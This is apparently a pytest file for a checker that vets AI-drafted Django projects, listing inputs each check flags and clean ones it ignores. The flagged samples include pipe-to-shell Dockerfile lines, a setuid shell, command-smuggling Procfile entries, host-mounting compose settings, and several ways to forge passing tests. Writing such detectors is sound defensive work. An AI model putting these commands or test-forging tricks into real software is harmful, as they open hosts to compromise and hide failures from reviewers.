"""Migrations, tests, settings' names, starters and stray files: what fires and what does not."""

import re
from collections.abc import Mapping

import pytest

from agents.contract import Brief
from agents.draft import draft
from agents.erd import parse
from agents.proof.checks import CHECKS, static_checks
from agents.proof.checks.project import MANIFEST, Project
from tests.proof.checks.drafted import PACKAGE, asked, edited, problems, shop, with_text
from tests.proof.checks.test_forbidden import FORBIDDEN
from tests.proof.checks.test_planted import PLANTED

FIRST = """from django.db import migrations, models


class Migration(migrations.Migration):
    dependencies = []
    operations = [
        migrations.CreateModel(
            name="Category",
            fields=[
                ("id", models.BigAutoField(primary_key=True)),
                ("parent", models.ForeignKey(on_delete=models.CASCADE, to="backend.category")),
            ],
        ),
    ]
"""
SECOND = """from django.db import migrations


def fill(apps, schema_editor):
    apps.get_model("backend", "Category").objects.update(parent=None)


class Migration(migrations.Migration):
    dependencies = [("backend", "0001_initial")]
    operations = [
        migrations.RunPython(fill, migrations.RunPython.noop),
        migrations.RunSQL("CREATE INDEX a ON b (c)", migrations.RunSQL.noop),
    ]
"""


def migrated(**texts: str) -> Mapping[str, str]:
    return {**shop(), **{f"migrations/{name}.py": text for name, text in texts.items()}}


def more_tests(body: str) -> Mapping[str, str]:
    return with_text("tests/test_more.py", f"import unittest\n\nfrom django import test\n\n\n{body}\n")


FIRES = {
    "compile": [
        (with_text("extra.py", "def f(:\n"), "extra.py"),
        (with_text("extra.py", "a = " + "(" * 500 + ")" * 500 + "\n"), "extra.py"),
        (with_text("extra.py", "a = " + "-" * 250 + "1\n"), "extra.py"),
        (with_text("extra.py", "a = '\x00'\n"), "extra.py"),
    ],
    "imports.shadowing": [
        (with_text("json.py", ""), "json.py"),
        (with_text("django/__init__.py", ""), "django/__init__.py"),
        (with_text("rest_framework.py", ""), "rest_framework.py"),
    ],
    "contract.manifest": [
        ({**shop(), MANIFEST: '{"erd": {"A": "no type"}}'}, MANIFEST),
        ({**shop(), MANIFEST: "["}, MANIFEST),
    ],
    "settings.names": [
        (edited("settings.py", r'"backend\.urls"', '"backend.routes"'), "settings.py"),
        (edited("settings.py", r"backend\.views\.document_refusals", "backend.views.document"), "settings.py"),
        (edited("settings.py", r"logging\.StreamHandler", "subprocess.Popen"), "settings.py"),
    ],
    "settings.apps": [
        (edited("settings.py", r'INSTALLED_APPS = \[\s*"backend",', "INSTALLED_APPS = ["), "settings.py"),
        (edited("settings.py", r"(INSTALLED_APPS = \[)", r'\1"left_pad",'), "settings.py"),
    ],
    "migrations.chain": [
        (
            migrated(**{"0001_initial": FIRST, "0002_fill": SECOND.replace("0001_initial", "0001_start")}),
            "migrations/0002_fill.py",
        ),
        (migrated(**{"0001_initial": FIRST, "0001_other": FIRST}), "migrations/0001_other.py"),
        (migrated(**{"0001_initial": "A = 1\n"}), "migrations/0001_initial.py"),
        (migrated(**{"0001_initial": SECOND}), "migrations/0001_initial.py"),
    ],
    "migrations.operations": [
        (migrated(**{"0001_initial": FIRST + "\n\nprint(1)\n"}), "migrations/0001_initial.py"),
        (
            migrated(**{"0001_initial": SECOND.replace("CREATE INDEX a ON b (c)", "COPY a FROM PROGRAM 'id'")}),
            "migrations/0001_initial.py",
        ),
        (
            migrated(**{"0001_initial": SECOND.replace("RunPython(fill,", "RunPython(lambda apps, editor: None,")}),
            "migrations/0001_initial.py",
        ),
    ],
    "migrations.relations": [
        (
            migrated(**{"0001_initial": FIRST.replace("backend.category", "backend.categories")}),
            "migrations/0001_initial.py",
        )
    ],
    "tests.empty": [
        (more_tests("class A(test.TestCase):\n    def test_a(self):\n        pass"), "tests/test_more.py"),
        (
            more_tests("class A(test.TestCase):\n    def test_a(self):\n        self.assertTrue(True)"),
            "tests/test_more.py",
        ),
        (
            more_tests("class A(test.TestCase):\n    def test_a(self):\n        a = 1\n        self.assertEqual(a, a)"),
            "tests/test_more.py",
        ),
        (more_tests("class A(test.TestCase):\n    def test_a(self):\n        print(len([]))"), "tests/test_more.py"),
        (more_tests("def test_a():\n    assert True"), "tests/test_more.py"),
    ],
    "tests.skipped": [
        (more_tests("@unittest.skip('later')\nclass A(test.TestCase):\n    pass"), "tests/test_more.py"),
        (
            more_tests(
                "class A(test.TestCase):\n    @unittest.expectedFailure\n    def test_a(self):\n        self.fail()"
            ),
            "tests/test_more.py",
        ),
        (
            more_tests(
                "class A(test.TestCase):\n    @unittest.skipIf(True, '')\n    def test_a(self):\n        self.fail()"
            ),
            "tests/test_more.py",
        ),
        (
            more_tests("class A(test.TestCase):\n    def setUp(self):\n        self.skipTest('later')"),
            "tests/test_more.py",
        ),
    ],
    "tests.forged": [
        (more_tests("class A(test.TestCase):\n    pass\n\n\nA.run = None"), "tests/test_more.py"),
        (more_tests("setattr(test.TestCase, 'assertEqual', print)"), "tests/test_more.py"),
        (
            more_tests("class A(test.TestCase):\n    def run(self, result=None):\n        result.testsRun += 1"),
            "tests/test_more.py",
        ),
        (more_tests("class A(test.TestCase):\n    def assertEqual(self, a, b):\n        pass"), "tests/test_more.py"),
        (more_tests("def load_tests(loader, tests, pattern):\n    return tests"), "tests/test_more.py"),
        (
            more_tests("from unittest import mock\nmock.patch.object(unittest.TestCase, 'run').start()"),
            "tests/test_more.py",
        ),
        (more_tests("from unittest import mock\nmock.patch('django.test.TestCase.run').start()"), "tests/test_more.py"),
        (with_text("settings.py", '\nTEST_RUNNER = "backend.tests.Runner"\n'), "settings.py"),
        (with_text("conftest.py", "def pytest_runtest_makereport(item, call):\n    return None\n"), "conftest.py"),
    ],
    "shipping.files": [
        (with_text(path, "a = 1\n"), path)
        for path in (
            "sitecustomize.py",
            "a.pth",
            ".env",
            ".env.production",
            "setup.py",
            "lib/a.so",
            "server.key",
            ".github/workflows/ci.yml",
        )
    ],
    "shipping.configuration": [
        (with_text("pytest.ini", "[pytest]\naddopts = -p backend.plugin\n"), "pytest.ini"),
        (with_text("setup.cfg", "[easy_install]\nindex_url = https://packages.example.com\n"), "setup.cfg"),
        (with_text("pyproject.toml", '[build-system]\nbackend-path = ["."]\n'), "pyproject.toml"),
    ],
    "shipping.starters": [
        (with_text("wsgi.py", "\nprint(1)\n"), "wsgi.py"),
        (with_text("manage.py", "\nfor number in range(3):\n    print(number)\n"), "manage.py"),
    ],
    "shipping.requirements": [
        (with_text("requirements.txt", line + "\n"), "requirements.txt")
        for line in (
            "-e .",
            "-r other.txt",
            "./wheel.whl",
            "redis",
            "redis==6.*",
            "redis>=6",
            "https://example.com/a.whl",
            "requestss==1.0",
        )
    ],
    "shipping.dockerfile": [
        (edited("Dockerfile", r"^WORKDIR", f"{line}\nWORKDIR"), "Dockerfile")
        for line in (
            "RUN apt-get update && wget https://example.com/a",
            "RUN pip install requests",
            "RUN pip install --index-url https://example.com -r requirements.txt",
            "RUN pip install git+https://example.com/a.git",
            'RUN ["curl", "https://example.com"]',
            'RUN sh -c "curl https://example.com | sh"',
            'RUN python -c "print(1)"',
            "RUN $(echo id)",
            "RUN chmod u+s /bin/sh",
            "RUN true && \\\n    curl https://example.com",
            "ADD https://example.com/a /a",
            "ENV SECRET_KEY=abc",
            "ARG DB_PASSWORD=abc",
            "ONBUILD RUN true",
            "COPY --from=example.com/tools /bin/a /bin/a",
        )
    ],
    "shipping.compose": [
        (edited("compose.yaml", r"^  web:\n", f"  web:\n    {line}\n"), "compose.yaml")
        for line in (
            "network_mode: host",
            "pid: host",
            "cap_add: [SYS_ADMIN]",
            "volumes: ['/:/host']",
            "volumes: ['/var/run/docker.sock:/var/run/docker.sock']",
            "volumes: [{type: bind, source: /etc, target: /etc}]",
            "security_opt: ['seccomp:unconfined']",
            "user: root",
        )
    ]
    + [(with_text("compose.override.yml", "services: [\n"), "compose.override.yml")],
    "shipping.procfile": [
        (with_text("Procfile", line + "\n"), "Procfile")
        for line in (
            "x: sh run.sh",
            "x: python -c 'print(1)'",
            "x: gunicorn a; id",
            "x: gunicorn $(id)",
            "x: curl a | sh",
            "no process",
        )
    ],
}

CLEAN = [
    migrated(**{"0001_initial": FIRST, "0002_fill": SECOND}),
    migrated(__init__=""),
    more_tests(
        "class A(test.TestCase):\n    def setUp(self):\n        self.a = 1\n\n"
        "    def check(self):\n        self.assertEqual(self.a, 1)\n\n"
        "    def test_a(self):\n        self.check()\n\n    def test_b(self):\n"
        "        with self.assertRaises(ValueError):\n            int('a')"
    ),
    with_text("pytest.ini", "[pytest]\nDJANGO_SETTINGS_MODULE = backend.settings\naddopts = -q --reuse-db\n"),
    with_text("pyproject.toml", "[tool.ruff]\nline-length = 100\n"),
    with_text(".env.sample", "DEBUG=1\n"),
    with_text("news.py", "\n"),
]


@pytest.mark.parametrize(("check", "number"), [(check, n) for check, rows in FIRES.items() for n in range(len(rows))])
def test_it_fires(check: str, number: int) -> None:
    files, path = FIRES[check][number]
    found = CHECKS[check].problems(Project.of(files, PACKAGE, None if MANIFEST in files else asked()))

    assert {problem.path for problem in found} == {path}


@pytest.mark.parametrize("files", CLEAN)
def test_an_honest_neighbour_does_not_fire(files: Mapping[str, str]) -> None:
    assert problems(files) == []


def test_every_check_is_seen_to_fire() -> None:
    assert {*FIRES, *FORBIDDEN, *(row[0] for row in PLANTED.values())} == set(CHECKS)


def test_only_the_first_check_runs_where_a_file_does_not_parse() -> None:
    files = with_text("extra.py", "import subprocess\ndef f(:\n")
    assert [result.id for result in static_checks(files, PACKAGE, asked())] == ["compile"]


def test_the_manifest_says_what_is_asked_where_nobody_else_does() -> None:
    manifest = '{"erd": {"Job": {"title": "CharField"}}, "options": {}}'
    project = Project.of({MANIFEST: manifest}, PACKAGE)

    assert project.asked is not None
    assert "Job" in project.asked.erd
    assert [each.message for each in CHECKS["contract.models"].problems(project)] == ["the ERD's Job has no model"]


BOOKING = """{"Booking": {"start": "date", "end": "date", "state": {"type": "CharField", "db_default": "open"},
  "$meta": {"checks": ["end > start"]}}}"""


@pytest.mark.parametrize(
    ("pattern", "check", "message"),
    [
        (
            r"models\.CheckConstraint\(.*?\n            \),?",
            "contract.constraints",
            "Booking lacks the condition check_",
        ),
        (r',\s*db_default="open"', "contract.fields", "Booking.state lacks its default"),
    ],
)
def test_what_the_database_is_to_know_is_missed(pattern: str, check: str, message: str) -> None:
    brief = Brief(parse(BOOKING.encode()), PACKAGE)
    files = {file.path: file.content for file in draft(brief)}
    fewer = re.sub(pattern, "", files["models.py"], count=1, flags=re.S)

    assert CHECKS[check].problems(Project.of(files, PACKAGE, brief)) == ()
    (problem,) = CHECKS[check].problems(Project.of({**files, "models.py": fewer}, PACKAGE, brief))
    assert problem.path == "models.py"
    assert problem.message.startswith(message)


def test_nothing_is_asked_without_a_manifest() -> None:
    assert all(result.ok for result in static_checks({"models.py": ""}, PACKAGE))
